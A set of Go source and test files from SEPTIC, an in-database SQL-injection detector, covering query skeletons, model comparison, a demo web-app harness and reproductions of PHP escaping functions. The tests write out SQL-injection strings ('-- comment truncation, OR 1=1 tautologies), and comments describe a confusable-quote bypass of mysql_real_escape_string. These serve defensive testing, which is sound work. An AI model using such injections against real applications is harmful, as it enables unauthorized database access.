		t.Errorf("ModelOf mutated the QS: %v", qs[3])
	}
}

func TestStringDataReturnsLiterals(t *testing.T) {
	qs := buildQS(t, "INSERT INTO c (a, b) VALUES ('<script>', 'ok')")
	got := qs.StringData()
	if len(got) != 2 || got[0] != "<script>" || got[1] != "ok" {
		t.Errorf("StringData = %v", got)
	}
}

func TestFingerprintStable(t *testing.T) {
	a := ModelOf(buildQS(t, ticketsQuery))
	b := ModelOf(buildQS(t, "SELECT * FROM tickets WHERE reservID = 'OTHER' AND creditCard = 1"))
	if a.Fingerprint() != b.Fingerprint() {
		t.Error("models of same-shape queries must share a fingerprint")
	}
	c := ModelOf(buildQS(t, "SELECT * FROM tickets WHERE reservID = 'X'"))
	if a.Fingerprint() == c.Fingerprint() {
		t.Error("different shapes must not collide (FNV-1a)")
	}
}

func TestCategoryIsData(t *testing.T) {
	data := []Category{CatInt, CatReal, CatString, CatBool, CatNull, CatPlaceholder}
	for _, c := range data {
		if !c.IsData() {
			t.Errorf("%s.IsData() = false", c)
		}
	}
	elems := []Category{CatSelectField, CatFromTable, CatField, CatFunc, CatCond, CatOrder, CatLimit}
	for _, c := range elems {
		if c.IsData() {
			t.Errorf("%s.IsData() = true", c)
		}
	}
}

func TestCompareFullAgreesWithCompare(t *testing.T) {
	queries := []string{
		ticketsQuery,
		"SELECT name FROM products WHERE id = 7",
		"INSERT INTO users (name) VALUES ('x')",
		"UPDATE users SET bio = 'b' WHERE id = 1",
	}
	attacks := []string{
		"SELECT * FROM tickets WHERE reservID = 'ID34FG'-- ' AND creditCard = 0",
		"SELECT name FROM products WHERE id = 7 OR 1=1",
		"INSERT INTO users (name) VALUES ('x'), ('y')",
		"UPDATE users SET bio = 'b' WHERE id = 1 OR 1=1",
	}
	for i, q := range queries {
		qm := ModelOf(buildQS(t, q))
		benign := buildQS(t, q)
		if got, want := CompareFull(benign, qm).Match, Compare(benign, qm).Match; got != want || !got {
			t.Errorf("benign %d: CompareFull=%v Compare=%v", i, got, want)
		}
		bad := buildQS(t, attacks[i])
		if CompareFull(bad, qm).Match || Compare(bad, qm).Match {
			t.Errorf("attack %d slipped through", i)
		}
	}
}
