package qstruct

import (
	"hash/fnv"
	"testing"
	"testing/quick"

	"github.com/septic-db/septic/internal/sqlparser"
)

func skeletonOf(t *testing.T, q string) string {
	t.Helper()
	stmt, err := sqlparser.Parse(q)
	if err != nil {
		t.Fatalf("Parse(%q): %v", q, err)
	}
	return Skeleton(stmt)
}

// TestSkeletonStableUnderDataInjection is the property the internal query
// identifier depends on: injecting into a data value must not change the
// skeleton, so the attacked query still finds the victim query's model.
func TestSkeletonStableUnderDataInjection(t *testing.T) {
	pairs := [][2]string{
		{
			"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234",
			"SELECT * FROM tickets WHERE reservID = 'ID34FG'-- ' AND creditCard = 0",
		},
		{
			"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234",
			"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0",
		},
		{
			"SELECT name FROM products WHERE id = 7",
			"SELECT name FROM products WHERE id = 7 OR 1=1",
		},
		{
			"UPDATE users SET bio = 'hi' WHERE id = 3",
			"UPDATE users SET bio = 'hi' WHERE id = 3 OR 1=1",
		},
		{
			"DELETE FROM logs WHERE ts < 10",
			"DELETE FROM logs WHERE ts < 10 OR 1=1",
		},
	}
	for _, p := range pairs {
		if a, b := skeletonOf(t, p[0]), skeletonOf(t, p[1]); a != b {
			t.Errorf("skeleton changed under injection:\n  %q -> %q\n  %q -> %q",
				p[0], a, p[1], b)
		}
	}
}

func TestSkeletonDistinguishesQueries(t *testing.T) {
	queries := []string{
		"SELECT * FROM tickets WHERE reservID = 'x'",
		"SELECT * FROM users WHERE reservID = 'x'",
		"SELECT id FROM tickets WHERE reservID = 'x'",
		"INSERT INTO tickets (a) VALUES (1)",
		"INSERT INTO tickets (b) VALUES (1)",
		"UPDATE tickets SET a = 1",
		"DELETE FROM tickets",
		"SHOW TABLES",
		"DESCRIBE tickets",
		"CREATE TABLE tickets (id INT)",
		"DROP TABLE tickets",
	}
	seen := make(map[string]string, len(queries))
	for _, q := range queries {
		sk := skeletonOf(t, q)
		if prev, dup := seen[sk]; dup {
			t.Errorf("skeleton collision: %q and %q both -> %q", prev, q, sk)
		}
		seen[sk] = q
	}
}

// TestSkeletonIgnoresLiteralValues: arbitrary benign int/string values
// never alter the skeleton.
func TestSkeletonIgnoresLiteralValues(t *testing.T) {
	base := skeletonOf(t, "SELECT * FROM t WHERE a = 'seed' AND b = 0")
	f := func(s string, n int64) bool {
		// Keep the value benign: non-ASCII confusables would decode into
		// live quotes inside the DBMS — that is the attack case, covered
		// elsewhere, not a benign literal.
		s = asciiOnly(s)
		q := "SELECT * FROM t WHERE a = '" + sqlparser.EscapeString(s) + "' AND b = " + itoa(n)
		stmt, err := sqlparser.Parse(q)
		if err != nil {
			// Some generated strings survive escaping but still break the
			// grammar only if our escaping is wrong — treat as failure.
			return false
		}
		return Skeleton(stmt) == base
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// TestSkeletonHashMatchesMaterializedHash: the streaming hash must be
// byte-for-byte equivalent to hashing the materialized skeleton string
// with hash/fnv — query identifiers (and persisted model stores keyed by
// them) depend on the two paths never diverging.
func TestSkeletonHashMatchesMaterializedHash(t *testing.T) {
	queries := []string{
		"SELECT * FROM tickets WHERE reservID = 'x'",
		"SELECT id, name, t.* FROM tickets t WHERE a = 1 ORDER BY id",
		"SELECT a AS renamed, COUNT(*) FROM t GROUP BY a",
		"SELECT a FROM (SELECT a FROM u) d",
		"INSERT INTO tickets (a, b, c) VALUES (1, 2, 3)",
		"INSERT INTO tickets (a) VALUES (1)",
		"UPDATE tickets SET a = 1, b = 2 WHERE id = 3",
		"DELETE FROM tickets WHERE id = 9",
		"CREATE TABLE tickets (id INT)",
		"DROP TABLE tickets",
		"SHOW TABLES",
		"DESCRIBE tickets",
		"EXPLAIN SELECT * FROM tickets WHERE id = 1",
	}
	for _, q := range queries {
		stmt, err := sqlparser.Parse(q)
		if err != nil {
			t.Fatalf("Parse(%q): %v", q, err)
		}
		h := fnv.New64a()
		_, _ = h.Write([]byte(Skeleton(stmt)))
		if want, got := h.Sum64(), SkeletonHash(stmt); got != want {
			t.Errorf("SkeletonHash(%q) = %#x, materialized hash = %#x", q, got, want)
		}
	}
}

// TestBuildStackIntoMatchesBuildStack: the buffer-reusing construction
// path produces the same stack as the allocating one.
func TestBuildStackIntoMatchesBuildStack(t *testing.T) {
	queries := []string{
		"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234",
		"INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y')",
		"UPDATE t SET a = CASE WHEN b > 1 THEN 2 ELSE 3 END WHERE id IN (1, 2)",
	}
	buf := make(Stack, 0, 4) // deliberately small: forces growth
	for _, q := range queries {
		stmt, err := sqlparser.Parse(q)
		if err != nil {
			t.Fatalf("Parse(%q): %v", q, err)
		}
		want := BuildStack(stmt)
		got := BuildStackInto(buf, stmt)
		if len(got) != len(want) {
			t.Fatalf("BuildStackInto(%q): %d nodes, want %d", q, len(got), len(want))
		}
		for i := range got {
			if got[i] != want[i] {
				t.Errorf("BuildStackInto(%q) node %d = %v, want %v", q, i, got[i], want[i])
			}
		}
		buf = got[:0] // reuse across iterations, as the hot path does
	}
}

func asciiOnly(s string) string {
	out := make([]byte, 0, len(s))
	for _, r := range s {
		if r < 0x80 {
			out = append(out, byte(r))
		} else {
			out = append(out, 'x')
		}
	}
	return string(out)
}

func itoa(n int64) string {
	if n < 0 {
		// Negative literals fold into INT_ITEM; keep the query shape by
		// using the absolute value.
		n = -n
	}
	const digits = "0123456789"
	if n == 0 {
		return "0"
	}
	var buf [20]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = digits[n%10]
		n /= 10
	}
	return string(buf[i:])
}
