package qstruct

import "fmt"

// CompareStep identifies which step of SEPTIC's two-step SQLI detection
// algorithm produced a verdict (paper §II-C3).
type CompareStep int

// Comparison steps.
const (
	// StepNone means no step failed (the query matches its model).
	StepNone CompareStep = iota
	// StepStructural is step 1: the node counts of QS and QM differ —
	// the injection changed the shape of the query (Fig. 3).
	StepStructural
	// StepSyntactical is step 2: same node count, but some node's
	// element type or element data differs — a syntax-mimicry attack
	// (Fig. 4).
	StepSyntactical
)

// String names the step the way the demo's event display does.
func (s CompareStep) String() string {
	switch s {
	case StepNone:
		return "none"
	case StepStructural:
		return "structural"
	case StepSyntactical:
		return "syntactical"
	default:
		return fmt.Sprintf("CompareStep(%d)", int(s))
	}
}

// Verdict is the result of comparing a query structure against a model.
type Verdict struct {
	// Match is true when the QS conforms to the QM.
	Match bool
	// Step records which detection step failed (StepNone on match).
	Step CompareStep
	// Index is the stack index of the first mismatching node for
	// StepSyntactical verdicts; -1 otherwise.
	Index int
	// Distance quantifies how far the structure sat from the model — the
	// demo display's "distance" column: the node-count delta for
	// structural mismatches, the index of the first mismatching node for
	// syntactical ones, 0 on match.
	Distance int
	// Detail is a human-readable explanation for the log.
	Detail string
}

// Compare runs SEPTIC's two-step SQLI detection: (1) verify the node
// counts of QS and QM are equal; (2) only if step 1 passes, verify each
// QS node against the corresponding QM node. Data nodes must agree on
// DATA TYPE (the QM holds ⊥ for their data); element nodes must agree on
// both ELEM TYPE and ELEM DATA.
func Compare(qs Stack, qm Model) Verdict {
	if len(qs) != len(qm.Nodes) {
		return Verdict{
			Match:    false,
			Step:     StepStructural,
			Index:    -1,
			Distance: lenDelta(len(qs), len(qm.Nodes)),
			Detail: fmt.Sprintf("query structure has %d nodes, model has %d",
				len(qs), len(qm.Nodes)),
		}
	}
	for i := range qs {
		got, want := qs[i], qm.Nodes[i]
		if !categoriesCompatible(got.Cat, want.Cat) {
			return Verdict{
				Match:    false,
				Step:     StepSyntactical,
				Index:    i,
				Distance: i,
				Detail: fmt.Sprintf("node %d: got ⟨%s, %s⟩, model expects ⟨%s, %s⟩",
					i, got.Cat, got.Data, want.Cat, want.Data),
			}
		}
		if !got.Cat.IsData() && got.Data != want.Data {
			return Verdict{
				Match:    false,
				Step:     StepSyntactical,
				Index:    i,
				Distance: i,
				Detail: fmt.Sprintf("node %d (%s): got %q, model expects %q",
					i, got.Cat, got.Data, want.Data),
			}
		}
	}
	return Verdict{Match: true, Step: StepNone, Index: -1}
}

// lenDelta is the absolute node-count difference — the structural
// distance reported in verdicts.
func lenDelta(a, b int) int {
	if a > b {
		return a - b
	}
	return b - a
}

// categoriesCompatible reports whether a QS node of category got may
// occupy a QM slot of category want. Categories must match exactly,
// except that the two numeric literal kinds unify: MySQL validates
// INSERT/UPDATE values against the column type before execution, so the
// same application query legitimately yields INT_ITEM on one request
// ("watts=1300") and REAL_ITEM on the next ("watts=1300.5"). Treating
// them as distinct would make SEPTIC flag benign traffic; an injection
// cannot exploit the unification because both kinds are pure literals.
func categoriesCompatible(got, want Category) bool {
	if got == want {
		return true
	}
	numeric := func(c Category) bool { return c == CatInt || c == CatReal }
	return numeric(got) && numeric(want)
}

// CompareFull is the ablation variant of Compare that skips the step-1
// length short-circuit and always walks min(len(QS), len(QM)) nodes.
// It exists to measure what the cheap structural check buys
// (bench: ablation "two-step detector").
func CompareFull(qs Stack, qm Model) Verdict {
	n := len(qs)
	if len(qm.Nodes) < n {
		n = len(qm.Nodes)
	}
	for i := 0; i < n; i++ {
		got, want := qs[i], qm.Nodes[i]
		if !categoriesCompatible(got.Cat, want.Cat) || (!got.Cat.IsData() && got.Data != want.Data) {
			return Verdict{
				Match:    false,
				Step:     StepSyntactical,
				Index:    i,
				Distance: i,
				Detail:   fmt.Sprintf("node %d mismatch", i),
			}
		}
	}
	if len(qs) != len(qm.Nodes) {
		return Verdict{
			Match:    false,
			Step:     StepStructural,
			Index:    -1,
			Distance: lenDelta(len(qs), len(qm.Nodes)),
			Detail:   "length mismatch",
		}
	}
	return Verdict{Match: true, Step: StepNone, Index: -1}
}
