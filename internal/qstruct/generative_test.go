package qstruct

import (
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/sqlparser"
)

// genQuery produces a random benign query from a small grammar: the
// generative counterpart of the hand-written cases, used for the
// self-match invariant below.
func genQuery(rng *rand.Rand) string {
	tables := []string{"t1", "t2", "orders"}
	cols := []string{"a", "b", "c", "total"}
	pick := func(xs []string) string { return xs[rng.Intn(len(xs))] }
	value := func() string {
		switch rng.Intn(3) {
		case 0:
			return fmt.Sprintf("%d", rng.Intn(1000))
		case 1:
			return fmt.Sprintf("%d.%02d", rng.Intn(100), rng.Intn(100))
		default:
			return "'" + pick([]string{"x", "hello", "zz9"}) + "'"
		}
	}
	condition := func() string {
		op := pick([]string{"=", "<>", "<", ">", "<=", ">=", "LIKE"})
		return pick(cols) + " " + op + " " + value()
	}

	switch rng.Intn(4) {
	case 0: // SELECT
		var b strings.Builder
		b.WriteString("SELECT ")
		if rng.Intn(4) == 0 {
			b.WriteString("*")
		} else {
			n := 1 + rng.Intn(3)
			for i := 0; i < n; i++ {
				if i > 0 {
					b.WriteString(", ")
				}
				b.WriteString(pick(cols))
			}
		}
		b.WriteString(" FROM ")
		b.WriteString(pick(tables))
		if rng.Intn(2) == 0 {
			b.WriteString(" WHERE ")
			b.WriteString(condition())
			for rng.Intn(3) == 0 {
				b.WriteString(" " + pick([]string{"AND", "OR"}) + " " + condition())
			}
		}
		if rng.Intn(3) == 0 {
			b.WriteString(" ORDER BY " + pick(cols))
			if rng.Intn(2) == 0 {
				b.WriteString(" DESC")
			}
		}
		if rng.Intn(3) == 0 {
			fmt.Fprintf(&b, " LIMIT %d", 1+rng.Intn(50))
		}
		return b.String()
	case 1: // INSERT
		n := 1 + rng.Intn(3)
		colList := make([]string, n)
		vals := make([]string, n)
		for i := 0; i < n; i++ {
			colList[i] = cols[i]
			vals[i] = value()
		}
		return fmt.Sprintf("INSERT INTO %s (%s) VALUES (%s)",
			pick(tables), strings.Join(colList, ", "), strings.Join(vals, ", "))
	case 2: // UPDATE
		return fmt.Sprintf("UPDATE %s SET %s = %s WHERE %s",
			pick(tables), pick(cols), value(), condition())
	default: // DELETE
		return fmt.Sprintf("DELETE FROM %s WHERE %s", pick(tables), condition())
	}
}

// TestSelfMatchInvariant: for any query, its QS must match the QM
// derived from itself — otherwise SEPTIC would flag the very queries it
// was trained on (a false positive by construction).
func TestSelfMatchInvariant(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for i := 0; i < 2000; i++ {
		q := genQuery(rng)
		stmt, err := sqlparser.Parse(q)
		if err != nil {
			t.Fatalf("generated query does not parse: %q: %v", q, err)
		}
		qs := BuildStack(stmt)
		if v := Compare(qs, ModelOf(qs)); !v.Match {
			t.Fatalf("self-match failed for %q: %+v\nQS:\n%s", q, v, qs)
		}
	}
}

// TestDataVariantInvariant: replacing every literal with a different
// literal of the same type never changes the model, so the variant
// matches the original's model.
func TestDataVariantInvariant(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	for i := 0; i < 1000; i++ {
		q := genQuery(rng)
		stmt, err := sqlparser.Parse(q)
		if err != nil {
			t.Fatalf("parse %q: %v", q, err)
		}
		qm := ModelOf(BuildStack(stmt))

		// Re-parse and rewrite the literals in place.
		variant, err := sqlparser.Parse(q)
		if err != nil {
			t.Fatal(err)
		}
		err = sqlparser.RewriteExprs(variant, func(e sqlparser.Expr) (sqlparser.Expr, error) {
			lit, ok := e.(*sqlparser.Literal)
			if !ok {
				return e, nil
			}
			switch lit.Kind {
			case sqlparser.LiteralInt:
				return &sqlparser.Literal{Kind: sqlparser.LiteralInt, Int: lit.Int + 7}, nil
			case sqlparser.LiteralFloat:
				return &sqlparser.Literal{Kind: sqlparser.LiteralFloat, Float: lit.Float + 0.5}, nil
			case sqlparser.LiteralString:
				return &sqlparser.Literal{Kind: sqlparser.LiteralString, Str: lit.Str + "!"}, nil
			default:
				return e, nil
			}
		})
		if err != nil {
			t.Fatal(err)
		}
		if v := Compare(BuildStack(variant), qm); !v.Match {
			t.Fatalf("data variant of %q mismatched: %+v", q, v)
		}
	}
}

// TestStructureVariantDetected: appending a tautology to any generated
// query with a WHERE clause must mismatch its own pre-attack model.
func TestStructureVariantDetected(t *testing.T) {
	rng := rand.New(rand.NewSource(13))
	checked := 0
	for i := 0; i < 1000 && checked < 300; i++ {
		q := genQuery(rng)
		if !strings.Contains(q, "WHERE") || strings.Contains(q, "ORDER") || strings.Contains(q, "LIMIT") {
			continue
		}
		stmt, err := sqlparser.Parse(q)
		if err != nil {
			continue
		}
		qm := ModelOf(BuildStack(stmt))
		attacked, err := sqlparser.Parse(q + " OR 1=1")
		if err != nil {
			continue
		}
		checked++
		if v := Compare(BuildStack(attacked), qm); v.Match {
			t.Fatalf("tautology appended to %q went undetected", q)
		}
	}
	if checked < 100 {
		t.Fatalf("only %d queries checked; generator drifted", checked)
	}
}
