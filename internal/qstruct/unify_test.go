package qstruct

import (
	"testing"
)

// TestNumericLiteralsUnify pins the validation-time coercion behaviour:
// the same application query issued with "watts = 1300" and
// "watts = 1300.5" must match one model — MySQL validates the value
// against the FLOAT column either way.
func TestNumericLiteralsUnify(t *testing.T) {
	qm := ModelOf(buildQS(t, "INSERT INTO readings (device_id, watts) VALUES (1, 12.5)"))
	intVariant := buildQS(t, "INSERT INTO readings (device_id, watts) VALUES (2, 1300)")
	if v := Compare(intVariant, qm); !v.Match {
		t.Errorf("integer literal against REAL_ITEM model flagged: %+v", v)
	}
	floatVariant := buildQS(t, "INSERT INTO readings (device_id, watts) VALUES (2.0, 9.9)")
	if v := Compare(floatVariant, qm); !v.Match {
		t.Errorf("float literal against INT_ITEM model flagged: %+v", v)
	}
}

// TestNumericUnificationDoesNotWeakenDetection: unifying INT and REAL
// must not let string/field/type-class changes through.
func TestNumericUnificationDoesNotWeakenDetection(t *testing.T) {
	qm := ModelOf(buildQS(t, "SELECT * FROM t WHERE a = 1"))
	cases := []struct {
		name  string
		query string
	}{
		{"string for number", "SELECT * FROM t WHERE a = 'x'"},
		{"field for number", "SELECT * FROM t WHERE a = b"},
		{"null for number", "SELECT * FROM t WHERE a = NULL"},
		{"bool for number", "SELECT * FROM t WHERE a = TRUE"},
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			if v := Compare(buildQS(t, tt.query), qm); v.Match {
				t.Errorf("%s matched the numeric model", tt.query)
			}
		})
	}
	// And the unifying direction still matches.
	if v := Compare(buildQS(t, "SELECT * FROM t WHERE a = 2.5"), qm); !v.Match {
		t.Errorf("real literal should match int model: %+v", v)
	}
}

func TestCompareFullUnifiesToo(t *testing.T) {
	qm := ModelOf(buildQS(t, "SELECT * FROM t WHERE a = 1"))
	if v := CompareFull(buildQS(t, "SELECT * FROM t WHERE a = 2.5"), qm); !v.Match {
		t.Errorf("CompareFull should unify numerics: %+v", v)
	}
	if v := CompareFull(buildQS(t, "SELECT * FROM t WHERE a = 'x'"), qm); v.Match {
		t.Error("CompareFull let a string through")
	}
}
