package webapp

import (
	"net/http"
)

// HTTPHandler adapts an App to net/http, so the demo applications can be
// served to a real browser the way the paper's deployment serves them
// through Apache. GET query parameters and POST form fields merge into
// the request's params (PHP superglobal behaviour); responses map status
// and body straight through, with SEPTIC blocks surfacing as 403 pages.
func HTTPHandler(app *App) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if err := r.ParseForm(); err != nil {
			http.Error(w, "bad request", http.StatusBadRequest)
			return
		}
		params := make(map[string]string, len(r.Form))
		for name, values := range r.Form {
			if len(values) > 0 {
				params[name] = values[0]
			}
		}
		resp := app.Serve(Request{Path: r.URL.Path, Params: params})
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch resp.Status {
		case 200:
			w.WriteHeader(http.StatusOK)
			_, _ = w.Write([]byte(resp.Body))
		case 403:
			w.WriteHeader(http.StatusForbidden)
			_, _ = w.Write([]byte("Forbidden: the database blocked this request (SEPTIC)\n"))
		case 404:
			http.NotFound(w, r)
		case 400:
			http.Error(w, errText(resp), http.StatusBadRequest)
		default:
			http.Error(w, errText(resp), http.StatusInternalServerError)
		}
	})
}

func errText(resp *Response) string {
	if resp.Err != nil {
		return resp.Err.Error()
	}
	return http.StatusText(resp.Status)
}

// WAFMiddleware wraps an http.Handler behind a request filter, the way
// ModSecurity wraps Apache virtual hosts. The check function returns
// true to block (respond 403) and false to pass through.
func WAFMiddleware(check func(Request) bool, next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if err := r.ParseForm(); err != nil {
			http.Error(w, "bad request", http.StatusBadRequest)
			return
		}
		params := make(map[string]string, len(r.Form))
		for name, values := range r.Form {
			if len(values) > 0 {
				params[name] = values[0]
			}
		}
		if check(Request{Path: r.URL.Path, Params: params}) {
			w.WriteHeader(http.StatusForbidden)
			_, _ = w.Write([]byte("Forbidden (ModSecurity)\n"))
			return
		}
		next.ServeHTTP(w, r)
	})
}
