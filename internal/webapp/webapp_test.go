package webapp

import (
	"errors"
	"testing"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
)

func newApp(t *testing.T) (*App, *engine.DB) {
	t.Helper()
	db := engine.New()
	if _, err := db.Exec("CREATE TABLE notes (id INT PRIMARY KEY AUTO_INCREMENT, body TEXT)"); err != nil {
		t.Fatal(err)
	}
	app := NewApp("test", db)
	app.Handle("/add", func(c *Ctx) {
		body := MySQLRealEscapeString(c.Param("body"))
		if _, err := c.Query("INSERT INTO notes (body) VALUES ('" + body + "')"); err != nil {
			return
		}
		c.Write("ok")
	})
	app.Handle("/list", func(c *Ctx) {
		res, err := c.Query("SELECT body FROM notes ORDER BY id")
		if err != nil {
			return
		}
		for _, row := range res.Rows {
			c.Write(row[0].String())
			c.Write("\n")
		}
	})
	return app, db
}

func TestServeRoutesAndRecordsQueries(t *testing.T) {
	app, _ := newApp(t)
	resp := app.Serve(Request{Path: "/add", Params: map[string]string{"body": "hello"}})
	if resp.Status != 200 || resp.Body != "ok" {
		t.Fatalf("resp = %+v", resp)
	}
	if len(resp.Queries) != 1 {
		t.Errorf("queries = %v", resp.Queries)
	}
	resp = app.Serve(Request{Path: "/list", Params: nil})
	if resp.Body != "hello\n" {
		t.Errorf("body = %q", resp.Body)
	}
}

func TestServeUnknownPath(t *testing.T) {
	app, _ := newApp(t)
	resp := app.Serve(Request{Path: "/missing"})
	if resp.Status != 404 {
		t.Errorf("status = %d, want 404", resp.Status)
	}
}

func TestServeDatabaseError(t *testing.T) {
	app, db := newApp(t)
	if _, err := db.Exec("DROP TABLE notes"); err != nil {
		t.Fatal(err)
	}
	resp := app.Serve(Request{Path: "/list"})
	if resp.Status != 500 || resp.Err == nil {
		t.Errorf("resp = %+v", resp)
	}
}

func TestServeBlockedQuery(t *testing.T) {
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	if _, err := db.Exec("CREATE TABLE notes (id INT PRIMARY KEY AUTO_INCREMENT, body TEXT)"); err != nil {
		t.Fatal(err)
	}
	app := NewApp("test", db)
	app.Handle("/view", func(c *Ctx) {
		id := MySQLRealEscapeString(c.Param("id"))
		if _, err := c.Query("SELECT body FROM notes WHERE id = " + id); err != nil {
			return
		}
		c.Write("ok")
	})
	// Train, then switch to prevention.
	if resp := app.Serve(Request{Path: "/view", Params: map[string]string{"id": "1"}}); resp.Status != 200 {
		t.Fatalf("training request failed: %+v", resp)
	}
	guard.SetConfig(core.Config{Mode: core.ModePrevention, DetectSQLI: true})

	resp := app.Serve(Request{Path: "/view", Params: map[string]string{"id": "1 OR 1=1"}})
	if resp.Status != 403 || !resp.Blocked {
		t.Fatalf("attack response = %+v, want 403 blocked", resp)
	}
	if !errors.Is(resp.Err, engine.ErrQueryBlocked) {
		t.Errorf("err = %v", resp.Err)
	}
}

func TestRequestCloneIndependent(t *testing.T) {
	r := Request{Path: "/p", Params: map[string]string{"a": "1"}}
	c := r.Clone()
	c.Params["a"] = "2"
	if r.Params["a"] != "1" {
		t.Error("Clone shares the params map")
	}
}

func TestRequestString(t *testing.T) {
	r := Request{Path: "/p", Params: map[string]string{"b": "2", "a": "1"}}
	if got := r.String(); got != "/p?a=1&b=2" {
		t.Errorf("String() = %q", got)
	}
	if got := (Request{Path: "/p"}).String(); got != "/p" {
		t.Errorf("String() = %q", got)
	}
}

func TestPathsSorted(t *testing.T) {
	app, _ := newApp(t)
	paths := app.Paths()
	if len(paths) != 2 || paths[0] != "/add" || paths[1] != "/list" {
		t.Errorf("paths = %v", paths)
	}
}
