package webapp

import (
	"strings"
)

// This file reproduces the PHP sanitization functions the paper's
// applications rely on, with their exact byte-level semantics — because
// the demonstration hinges on what these functions do NOT do. They
// operate on the bytes the *application* sees, before the DBMS performs
// charset decoding; multi-byte confusables such as U+02BC therefore pass
// through untouched and become live quotes only inside the DBMS
// (DESIGN.md §4).

// MySQLRealEscapeString reproduces PHP's mysql_real_escape_string: it
// backslash-escapes ', ", \, NUL, \n, \r and Ctrl-Z — and nothing else.
func MySQLRealEscapeString(s string) string {
	var b strings.Builder
	b.Grow(len(s) + 8)
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch c {
		case '\'':
			b.WriteString(`\'`)
		case '"':
			b.WriteString(`\"`)
		case '\\':
			b.WriteString(`\\`)
		case 0:
			b.WriteString(`\0`)
		case '\n':
			b.WriteString(`\n`)
		case '\r':
			b.WriteString(`\r`)
		case 0x1a:
			b.WriteString(`\Z`)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// AddSlashes reproduces PHP's addslashes: escapes ', ", \ and NUL.
func AddSlashes(s string) string {
	var b strings.Builder
	b.Grow(len(s) + 8)
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch c {
		case '\'', '"', '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case 0:
			b.WriteString(`\0`)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// HTMLSpecialChars reproduces PHP's htmlspecialchars with ENT_QUOTES:
// output-encoding for HTML contexts.
func HTMLSpecialChars(s string) string {
	r := strings.NewReplacer(
		"&", "&amp;",
		"<", "&lt;",
		">", "&gt;",
		`"`, "&quot;",
		"'", "&#039;",
	)
	return r.Replace(s)
}

// StripTags reproduces PHP's strip_tags: removes everything between '<'
// and the matching '>', dropping an unterminated tag entirely.
func StripTags(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	inTag := false
	for i := 0; i < len(s); i++ {
		switch {
		case s[i] == '<':
			inTag = true
		case s[i] == '>' && inTag:
			inTag = false
		case !inTag:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

// IsNumeric reproduces PHP's is_numeric: decimal or float syntax with
// optional leading sign and surrounding spaces disallowed (PHP 8
// semantics, trailing whitespace tolerated).
func IsNumeric(s string) bool {
	t := strings.TrimRight(s, " \t\n\r")
	t = strings.TrimLeft(t, " \t\n\r")
	if t == "" {
		return false
	}
	i := 0
	if t[i] == '+' || t[i] == '-' {
		i++
	}
	digits, dot, exp := 0, false, false
	for ; i < len(t); i++ {
		c := t[i]
		switch {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !dot && !exp:
			dot = true
		case (c == 'e' || c == 'E') && digits > 0 && !exp:
			exp = true
			if i+1 < len(t) && (t[i+1] == '+' || t[i+1] == '-') {
				i++
			}
			digits = 0 // require digits after the exponent
		default:
			return false
		}
	}
	return digits > 0
}

// IntVal reproduces PHP's intval: parse the longest leading integer,
// 0 when there is none.
func IntVal(s string) int64 {
	s = strings.TrimLeft(s, " \t\n\r")
	i := 0
	if i < len(s) && (s[i] == '+' || s[i] == '-') {
		i++
	}
	start := i
	for i < len(s) && s[i] >= '0' && s[i] <= '9' {
		i++
	}
	if i == start {
		return 0
	}
	var n int64
	neg := s[0] == '-'
	for _, c := range s[start:i] {
		n = n*10 + int64(c-'0')
	}
	if neg {
		return -n
	}
	return n
}
