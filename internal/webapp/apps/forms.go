package apps

import "github.com/septic-db/septic/internal/trainer"

// Form descriptions for the septic training module (internal/trainer):
// the crawlable entry points of each application with their parameter
// types, as the paper's crawler would discover them from the HTML forms.

// WaspMonForms describes WaspMon's entry points.
func WaspMonForms() []trainer.Form {
	return []trainer.Form{
		{Path: "/devices"},
		{Path: "/device/view", Params: map[string]trainer.ParamKind{"name": trainer.ParamName}},
		{Path: "/device/add", Params: map[string]trainer.ParamKind{
			"name": trainer.ParamName, "location": trainer.ParamName, "maxWatts": trainer.ParamNumeric,
		}},
		{Path: "/reading/history",
			Params: map[string]trainer.ParamKind{"limit": trainer.ParamNumeric},
			Fixed:  map[string]string{"device": "1"}},
		{Path: "/reading/add", Params: map[string]trainer.ParamKind{
			"device": trainer.ParamNumeric, "ts": trainer.ParamNumeric, "watts": trainer.ParamDecimal,
		}},
		{Path: "/user/register", Params: map[string]trainer.ParamKind{
			"username": trainer.ParamName, "email": trainer.ParamEmail, "notes": trainer.ParamText,
		}},
		{Path: "/user/register2", Params: map[string]trainer.ParamKind{
			"username": trainer.ParamName, "email": trainer.ParamEmail, "notes": trainer.ParamText,
		}},
		{Path: "/user/profile", Fixed: map[string]string{"id": "1"}},
		{Path: "/note/add",
			Params: map[string]trainer.ParamKind{"notes": trainer.ParamText},
			Fixed:  map[string]string{"id": "1"}},
		{Path: "/note/view", Fixed: map[string]string{"id": "1"}},
	}
}

// AddressBookForms describes the address book's entry points.
func AddressBookForms() []trainer.Form {
	return []trainer.Form{
		{Path: "/contacts"},
		{Path: "/search", Params: map[string]trainer.ParamKind{"q": trainer.ParamName}},
		{Path: "/contact", Fixed: map[string]string{"id": "1"}},
